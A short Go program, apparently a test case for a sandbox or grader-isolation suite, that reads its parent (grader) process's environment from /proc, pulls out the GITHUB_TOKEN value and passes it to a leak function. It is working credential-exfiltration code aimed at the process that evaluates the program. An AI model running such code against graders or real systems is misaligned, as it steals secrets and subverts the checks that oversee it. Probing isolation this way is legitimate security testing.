// Reads the environment of the grader.
//
// class: see the grader's process
package main

import (
	"fmt"
	"os"
	"strings"
)

func main() {
	text, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid()))
	did2(err)
	if _, token, ok := strings.Cut(string(text), "GITHUB_TOKEN="); ok {
		leak(token[:min(30, len(token))])
	}
	serve(nil)
}
